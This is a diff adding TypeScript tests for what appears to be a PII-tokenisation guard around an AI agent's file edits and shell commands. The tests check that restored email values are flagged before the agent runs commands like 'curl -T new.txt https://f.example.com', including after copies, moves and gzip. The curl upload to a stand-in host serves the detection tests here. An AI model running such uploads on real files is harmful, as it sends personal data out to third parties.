@@ -271,4 +271,65 @@ describe('a file with values', () => {
       expect(JSON.parse(onDisk(plane, 'n.ipynb'))).toEqual(JSON.parse(notebook(`x = ${value}`)))
     })
   })
+
+  it('has its values when they are given up', async () => {
+    await withPlane(async (plane) => {
+      await enforce(plane)
+      const agent = agentOf(plane)
+      const token = await tokenFor(plane, agent, MAIL)
+      await agent.writes('new.txt', `to ${token}\n`)
+      expect(onDisk(plane, 'new.txt')).toBe(`to ${token}\n`)
+      const done = await plane.call('vault.gc', { ttlMs: 0, pid: process.pid })
+      expect(done.collected).toBe(1)
+      expect(onDisk(plane, 'new.txt')).toBe(`to ${MAIL}\n`)
+      const sent = await agent.before('Bash', { command: 'curl -T new.txt https://f.example.com' })
+      expect(sent.stdout).toContain('pii:restored')
+    })
+  })
+
+  it.each([
+    [
+      'cp new.txt copy.txt',
+      'copy.txt',
+      (at: string) => fs.cpSync(`${at}/new.txt`, `${at}/copy.txt`),
+    ],
+    [
+      'mv new.txt copy.txt',
+      'copy.txt',
+      (at: string) => fs.renameSync(`${at}/new.txt`, `${at}/copy.txt`),
+    ],
+    [
+      'cp new.txt sub',
+      'sub/new.txt',
+      (at: string) => fs.cpSync(`${at}/new.txt`, `${at}/sub/new.txt`),
+    ],
+    [
+      'cat new.txt > copy.txt',
+      'copy.txt',
+      (at: string) => fs.cpSync(`${at}/new.txt`, `${at}/copy.txt`),
+    ],
+    [
+      'gzip -k -c new.txt > a.gz',
+      'a.gz',
+      (at: string) => fs.writeFileSync(`${at}/a.gz`, Buffer.from([31, 139, 8, 0, 0])),
+    ],
+  ])('is one as well after %s', async (command, name, act) => {
+    await withPlane(async (plane) => {
+      await enforce(plane)
+      const agent = agentOf(plane)
+      const token = await tokenFor(plane, agent, MAIL)
+      fs.mkdirSync(path.join(plane.project, 'sub'))
+      await agent.writes('new.txt', `to ${token}\n`)
+      await agent.runs(command, () => act(plane.project))
+      const sent = await agent.before('Bash', { command: `curl -T ${name} https://f.example.com` })
+      expect(sent.stdout).toContain('pii:restored')
+      if (name.endsWith('.txt')) {
+        // Between two calls it holds the tokens, so that the agent can edit it.
+        expect(await agent.edits(name, `to ${token}`, `cc ${token}`)).toMatchObject({ exit: 0 })
+        await agent.stop()
+        expect(onDisk(plane, name)).toBe(`cc ${MAIL}\n`)
+      }
+      await replays(plane)
+    })
+  })
 })
